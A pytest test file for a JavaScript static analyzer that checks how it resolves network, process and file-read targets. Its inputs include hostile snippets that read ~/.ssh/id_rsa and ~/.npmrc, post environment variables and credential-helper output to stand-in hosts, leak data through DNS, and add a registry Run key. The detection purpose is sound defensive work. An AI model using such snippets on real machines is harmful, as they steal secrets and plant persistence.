"""What sinks are given, as far as it is constant."""

import pytest

from pratique.analysis.facts import Capability, Taint
from pratique.analysis.languages.javascript.targets import address, shown
from tests.analysis.languages.javascript.reading import facts

F = "const os = require('os'), fs = require('fs'), path = require('path'), cp = require('child_process');"


def argument(source: str, capability: Capability) -> str | None:
    [use] = [use for use in facts(F + source).uses if use.capability is capability]
    return use.argument


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("fetch('https://a.invalid/x')", "https://a.invalid/x"),
        ("fetch(`https://a.invalid/x?d=${d}`)", "https://a.invalid/x?d="),
        ("fetch(new URL('/x', 'https://a.invalid/'))", "https://a.invalid/x"),
        ("const base = 'https://a.invalid'; fetch(base + '/x/' + id)", "https://a.invalid/x/"),
        ("require('https').request({hostname: 'a.invalid', path: '/x', port: 443})", "https://a.invalid/x"),
        ("require('http').get({host: 'a.invalid', port: 8080, path: '/'})", "http://a.invalid:8080/"),
        ("require('axios')({baseURL: 'https://a.invalid', url: 'x'})", "https://a.invalid/x"),
        ("require('axios').post('https://a.invalid/', d)", "https://a.invalid/"),
        ("require('got')({url: 'https://a.invalid/'})", "https://a.invalid/"),
        ("require('net').connect(4444, '198.51.100.7')", "198.51.100.7:4444"),
        ("require('net').connect({host: 'a.invalid', port: 1})", "a.invalid:1"),
        ("require('dns').resolve(`${d}.x.a.invalid`, f)", "x.a.invalid"),
        ("new WebSocket('wss://a.invalid/s')", "wss://a.invalid/s"),
        ("const u = new URL('https://a.invalid'); fetch(`${u}x/${y}`)", "https://a.invalid/x/"),
        (
            "const u = new URL(h ? `http://${h}` : 'https://a.invalid'); fetch(`${u}x/${y}`)",
            "https://a.invalid/x/",
        ),
        ("const u = new URL('https://a.invalid'); fetch(u + 'x/' + y)", "https://a.invalid/x/"),
        ("const u = new URL('https://a.invalid'); fetch(u.toString() + 'x/' + y)", "https://a.invalid/x/"),
        ("const u = new URL('https://a.invalid'); fetch(u.href + 'x/' + y)", "https://a.invalid/x/"),
        (
            "const u = new URL('/v', 'https://a.invalid:1'); fetch(u.origin + '/x/' + y)",
            "https://a.invalid:1/x/",
        ),
        (
            "const u = new URL('https://a.invalid/v'); fetch('https://' + u.host + '/' + y)",
            "https://a.invalid/",
        ),
        (
            "fetch('https://a.invalid' + new URL('https://b.invalid/v').pathname + '/' + y)",
            "https://a.invalid/v/",
        ),
        ("const u = {href: h}; fetch(u.href + '/x')", None),
        ("const u = new URL(v); fetch(u.href + '/x')", None),
        ("let u = new URL('https://a.invalid'); u = v; fetch(u.href + 'x/' + y)", None),
        ("fetch(u)", None),
        ("fetch(process.env.BASE + '/x')", None),
    ],
)
def test_requests_say_where_they_go(source: str, expected: str | None) -> None:
    assert expected == argument(source, Capability.NETWORK)


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("cp.exec('curl ' + u + ' -o x')", "curl ${_} -o x"),
        ("cp.spawn('sh', ['-c', c])", "sh -c ${_}"),
        ("cp.execSync(`npm publish ${dir}`)", "npm publish ${_}"),
        ("cp.spawn(process.execPath, ['x.js'])", "node x.js"),
        (r"cp.exec(String.raw`reg add HKCU\Run ${n}`)", r"reg add HKCU\Run ${_}"),
        ("cp.exec(c)", None),
    ],
)
def test_programs_say_what_they_are(source: str, expected: str | None) -> None:
    assert expected == argument(source, Capability.PROCESS)


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("fs.readFileSync(path.join(os.homedir(), '.npmrc'))", "~/.npmrc"),
        ("const home = process.env.HOME; fs.readFileSync(home + '/.ssh/id_rsa')", "~/.ssh/id_rsa"),
        ("fs.readFileSync(process.env.APPDATA + '/x/data')", "${APPDATA}/x/data"),
        ("fs.readFileSync(__dirname + '/data.txt')", "__dirname/data.txt"),
        ("fs.readFileSync(import.meta.dirname + '/data.txt')", "__dirname/data.txt"),
        ("fs.readFileSync(new URL('data.txt', import.meta.url))", "__dirname/data.txt"),
        ("fs.readFileSync(path.join(path.dirname(url.fileURLToPath(import.meta.url)), 'a'))", "__dirname/a"),
        ("let d; d = path.dirname(__filename); fs.readFileSync(d + '/data.txt')", "__dirname/data.txt"),
        ("fs.readFileSync(path.dirname(file) + '/data.txt')", "${_}/data.txt"),
        ("fs.readdirSync(os.homedir())", "~"),
        ("fs.readdirSync('/')", "/"),
        ("fs.readFileSync(file)", None),
    ],
)
def test_files_say_where_they_are(source: str, expected: str | None) -> None:
    assert expected == argument(source, Capability.FILE_READ)


def test_flows_carry_the_target_of_what_they_end_in() -> None:
    request = "const q = require('https').request({hostname: 'a.invalid', path: '/x'}); q.write(JSON.stringify(process.env))"
    assert ["https://a.invalid/x"] == [flow.target for flow in facts(request).flows]
    opened = (
        "const x = new XMLHttpRequest(); x.open('POST', 'https://a.invalid/p'); x.send(process.env.SETTING)"
    )
    assert ["https://a.invalid/p"] == [flow.target for flow in facts(opened).flows]
    written = F + "fs.writeFileSync(path.join(os.tmpdir(), 'p.js'), Buffer.from(x, 'hex'))"
    assert ["${tmp}/p.js"] == [flow.target for flow in facts(written).flows]


def test_the_domain_behind_a_hole_is_the_address() -> None:
    assert "https://x.a.invalid/p" == address("https://${_}.x.a.invalid/p")
    assert address("https://api.${_}/x") is None
    assert shown("${_}/") is None


@pytest.mark.parametrize(
    ("source", "taints"),
    [
        ("cp.execSync('gh auth token')", {Taint.PROCESS, Taint.SECRETS}),
        ("cp.spawnSync('git', ['credential', 'fill'])", {Taint.PROCESS, Taint.SECRETS}),
        ("cp.execSync('pbpaste')", {Taint.PROCESS, Taint.CLIPBOARD}),
        ("cp.execSync('git status')", {Taint.PROCESS}),
    ],
)
def test_programs_that_print_what_they_keep(source: str, taints: set[Taint]) -> None:
    found = facts(F + f"fetch('https://a.invalid', {{method: 'POST', body: {source}}})").flows
    assert [taints] == [set(flow.taints) for flow in found]


def test_a_datagram_goes_where_it_is_sent_and_not_to_the_sort_of_its_socket() -> None:
    source = "const s = require('dgram').createSocket('udp4'); s.send(process.env.KEPT, 53, 'a.far.invalid')"
    assert ["a.far.invalid"] == [flow.target for flow in facts(source).flows]
